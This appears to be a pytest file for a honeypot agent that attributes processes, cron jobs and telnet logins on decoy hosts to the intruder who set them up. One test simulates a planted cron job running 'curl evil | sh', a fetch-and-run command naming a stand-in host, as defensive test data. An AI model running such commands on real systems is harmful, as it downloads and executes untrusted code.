"""What daemons do on an intruder's orders is the intruder's, and what they do by themselves is nobody's."""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterator
from typing import Any

import pytest

from decnet_agent.tap.decoding import Flow, Record
from decnet_agent.tap.observer import Observer, Watched
from decnet_agent.tap.programs import Kind
from decnet_core.events import Event, EventType
from tests.tap.records import NAMESPACE, SECOND, packed

SHELL, CRON, LATE = 300, 40, 900
FLOW = Flow("10.0.0.9", 40000, "10.0.0.1", 22)
TELNET_FLOW = Flow("10.0.0.7", 40001, "10.0.0.1", 23)


class Machine:
    """Instead of /proc, where these pids are nobody's: one process of the SSH server, with one connection."""

    def running(self, _namespace: int) -> Iterator[Record]:
        return iter(())

    def program_of(self, pid: int) -> bytes:
        return b"/usr/sbin/sshd" if pid == 200 else b""

    def served_flows(self, pid: int) -> frozenset[Flow]:
        return frozenset({FLOW}) if pid == 200 else frozenset()

    def served_ports(self, _pid: int) -> frozenset[int]:
        return frozenset({FLOW.dst_port, TELNET_FLOW.dst_port})

    def server_user(self, _pid: int) -> str | None:
        return None


class Decky:
    """A decky with a cron daemon and one visitor's shell, told of by kernel records."""

    def __init__(self) -> None:
        self.events: list[Event] = []
        self.observer = Observer(self.events.append, Machine())
        self.observer.watch(Watched("web-01", "c0ffee", 2, NAMESPACE))
        self.take(Kind.FORKED, pid=CRON, name=b"cron")
        self.take(Kind.FORKED, pid=200, name=b"sshd")
        self.take(Kind.FORKED, pid=SHELL, parent=200, name=b"sshd")
        self.run(SHELL, b"/bin/bash", b"-bash", terminal=True)
        self.take(Kind.PROMPTED, pid=SHELL)
        self.events.clear()

    def take(self, kind: Kind, *, pid: int, parent: int = 1, **more: Any) -> None:
        times = {"started_ns": pid * SECOND, "parent_started_ns": parent * SECOND}
        self.observer.take(packed(kind, pid=pid, parent=parent, **times, **more))

    def run(self, pid: int, file: bytes, *words: bytes, terminal: bool = False) -> None:
        text = b"".join(word + b"\0" for word in words)
        self.take(Kind.EXECUTED, pid=pid, file=file, text=text, terminal=terminal)

    def cron_runs(self, pid: int, file: bytes, *words: bytes) -> None:
        self.take(Kind.FORKED, pid=pid, parent=CRON, name=b"cron")
        self.run(pid, file, *words)

    def writes(self, path: str) -> None:
        process = self.observer.find(NAMESPACE, SHELL)
        assert process is not None
        assert self.observer.is_a_visitors(process, path)
        self.observer.named(process, path)

    def wrote(self, pid: int, path: str) -> bool:
        process = self.observer.find(NAMESPACE, pid)
        assert process is not None
        return self.observer.is_a_visitors(process, path)


@pytest.fixture
def decky() -> Decky:
    return Decky()


def test_cron_by_itself_is_nobody(decky):
    decky.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"run-parts /etc/cron.hourly")
    decky.writes("/home/bob/notes")
    decky.cron_runs(401, b"/bin/sh", b"sh", b"-c", b"run-parts /etc/cron.hourly")
    assert decky.events == []
    assert not decky.wrote(401, "/var/log/some.log")


@pytest.mark.parametrize("path", ["/etc/cron.d/x", "/var/spool/cron/crontabs/bob", "/etc/inittab"])
def test_what_cron_does_on_orders_is_the_visitors(decky, path):
    decky.writes(path)
    decky.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"curl evil | sh")
    decky.take(Kind.FORKED, pid=401, parent=400, name=b"sh")
    decky.run(401, b"/usr/bin/curl", b"curl", b"evil")
    assert [event.fields["command"] for event in decky.events] == ["sh -c 'curl evil | sh'", "curl evil"]
    assert {(event.event_type, event.src_ip, event.fields["startup"]) for event in decky.events} == {
        (EventType.COMMAND_RUN, "10.0.0.9", "true")
    }
    assert len({event.session for event in decky.events}) == 1
    assert decky.wrote(401, "/tmp/dropped")


@pytest.mark.parametrize("words", [(b"/opt/tool", b"tool"), (b"/bin/sh", b"sh", b"/opt/tool")])
def test_a_program_that_a_visitor_wrote_is_his_whoever_runs_it(decky, words):
    decky.writes("/opt/tool")
    decky.cron_runs(400, *words)
    assert [event.src_ip for event in decky.events] == ["10.0.0.9"]


def test_a_process_of_another_decky_is_not_found_by_its_pid(decky):
    """A pid that was used before may stand for another decky's process that ended."""
    assert decky.observer.find(NAMESPACE, SHELL) is not None
    assert decky.observer.find(NAMESPACE + 1, SHELL) is None


def test_a_decky_that_is_gone_takes_its_orders_along(decky):
    decky.writes("/etc/cron.d/x")
    decky.observer.forget(NAMESPACE)
    decky.observer.watch(Watched("web-02", "c0de", 2, NAMESPACE))
    decky.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"true")
    assert decky.events == []


def test_what_the_server_s_own_code_writes_for_a_visitor_is_his_but_for_its_records(decky):
    """`internal-sftp` runs within the SSH server's process."""
    decky.take(Kind.FORKED, pid=210, parent=200, name=b"sshd")
    assert decky.wrote(210, "/home/bob/uploaded")
    assert not decky.wrote(210, "/var/log/wtmp")


def socket_of(flow: Flow) -> bytes:
    """A record's socket: established, IPv4."""
    addresses = socket.inet_aton(flow.src_ip) + socket.inet_aton(flow.dst_ip)
    return struct.pack("=HBxH2s8s32x", socket.AF_INET, 1, flow.dst_port, struct.pack(">H", flow.src_port), addresses)


def late_server(decky: Decky, pid: int, flow: Flow, file: bytes = b"/usr/sbin/sshd") -> None:
    """A server's process of which we hear when it is gone: /proc says nothing (`Machine` knows pid 200 alone)."""
    decky.take(Kind.FORKED, pid=pid, parent=LATE, name=b"sshd")
    decky.take(Kind.EXECUTED, pid=pid, name=b"sshd", file=file, text=b"sshd\0-R\0", socket=socket_of(flow))
    decky.take(Kind.FORKED, pid=pid + 1, parent=pid, name=b"sshd")
    decky.run(pid + 1, b"/bin/bash", b"bash", b"-c", b"id")


def test_a_visit_that_is_over_before_we_hear_of_it_has_its_visitor(decky):
    late_server(decky, 901, Flow("10.0.0.77", 5555, "10.0.0.1", 22))
    (event,) = decky.events
    assert (event.src_ip, event.src_port, event.dst_port) == ("10.0.0.77", 5555, 22)
    assert event.fields["command"] == "bash -c id"


@pytest.mark.parametrize(
    ("flow", "file"),
    [
        (Flow("10.0.0.77", 443, "10.0.0.1", 40000), b"/usr/sbin/sshd"),  # outward: nobody listens on 40000
        (Flow("10.0.0.77", 5555, "10.0.0.1", 22), b"/tmp/sshd"),
    ],
)
def test_what_only_looks_like_a_server_s_connection_is_none(decky, flow, file):
    late_server(decky, 901, flow, file)
    assert decky.events == []


def test_a_later_observer_goes_on_in_the_middle_of_everything(decky):
    """Each table is written down and read again between two records: passwords, orders and sessions survive."""
    decky.take(Kind.PAM_ITEM, pid=200, name=b"sshd", number=2, text=b"root")
    decky.writes("/etc/cron.d/x")
    again = Decky()
    for old, new in zip(decky.observer.tables, again.observer.tables, strict=True):
        new.clear()
        old.all_changed()
        new.restore([(key, value) for key, value in old.changes() if value is not None])
    again.observer.restored([Watched("web-01", "c0ffee", 2, NAMESPACE)])
    again.take(Kind.PAM_ITEM, pid=200, name=b"sshd", number=6, text=b"secret")
    again.run(SHELL, b"/usr/bin/id", b"id")
    again.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"true")
    tried, ran, ordered = again.events
    assert (tried.fields["user"], tried.fields["password"]) == ("root", "secret")
    assert len({tried.session, ran.session, ordered.session}) == 1
    assert (ran.fields["command"], ordered.fields["startup"]) == ("id", "true")


class TelnetMachine(Machine):
    """Where process 500 is what inetd started for a connection to the telnet port."""

    def program_of(self, pid: int) -> bytes:
        return b"/usr/sbin/telnetd" if pid == 500 else b""

    def served_flows(self, pid: int) -> frozenset[Flow]:
        return frozenset({TELNET_FLOW}) if pid == 500 else frozenset()


def test_a_visit_by_telnet_is_a_session_of_that_service():
    events: list[Event] = []
    observer = Observer(events.append, TelnetMachine())
    observer.watch(Watched("web-01", "c0ffee", 2, NAMESPACE))

    def take(kind: Kind, pid: int, parent: int, **more: Any) -> None:
        times = {"started_ns": pid * SECOND, "parent_started_ns": parent * SECOND}
        observer.take(packed(kind, pid=pid, parent=parent, **times, **more))

    take(Kind.FORKED, 40, 1, name=b"inetutils-inetd")
    take(Kind.FORKED, 500, 40, name=b"inetutils-inetd")
    take(Kind.EXECUTED, 500, 40, name=b"tcpd", file=b"/usr/sbin/tcpd", text=b"/usr/sbin/telnetd\0")
    take(Kind.EXECUTED, 500, 40, name=b"telnetd", file=b"/usr/sbin/telnetd", text=b"telnetd\0")
    take(Kind.FORKED, 501, 500, name=b"telnetd")
    take(Kind.EXECUTED, 501, 500, name=b"login", file=b"/bin/login", text=b"/bin/login\0-p\0", terminal=True)
    for number, text in ((2, b"root"), (6, b"wrong"), (2, b"bob"), (6, b"right")):
        take(Kind.PAM_ITEM, 501, 500, name=b"login", number=number, text=text)
    take(Kind.FORKED, 502, 501, name=b"login")
    take(Kind.EXECUTED, 502, 501, name=b"sh", file=b"/bin/sh", text=b"sh\0-c\0/usr/bin/env -i PATH=/bin x\0")
    take(Kind.FORKED, 503, 501, name=b"login")
    take(Kind.EXECUTED, 503, 501, name=b"bash", file=b"/bin/bash", text=b"-bash\0", terminal=True)
    take(Kind.PROMPTED, 503, 501)
    take(Kind.ENTERED, 503, 501, text=b"id")
    # somebody who is in does not become the server by its file
    take(Kind.EXECUTED, 503, 501, name=b"login", file=b"/bin/login", text=b"login\0", terminal=True)
    assert [(event.event_type, event.fields.get("password") or event.fields.get("command")) for event in events] == [
        (EventType.CREDENTIAL_TRIED, "wrong"),
        (EventType.CREDENTIAL_TRIED, "right"),
        (EventType.COMMAND_RUN, "sh -c '/usr/bin/env -i PATH=/bin x'"),
        (EventType.LOGIN_SUCCEEDED, None),
        (EventType.COMMAND_RUN, "-bash"),
        (EventType.COMMAND_RUN, "id"),
        (EventType.COMMAND_RUN, "login"),
    ]
    assert [event.fields["user"] for event in events] == ["root", "bob", "bob", "bob", "bob", "bob", "bob"]
    assert {(event.service, event.src_ip, event.src_port, event.dst_port) for event in events} == {
        ("telnet", "10.0.0.7", 40001, 23)
    }
    assert len({event.session for event in events}) == 1
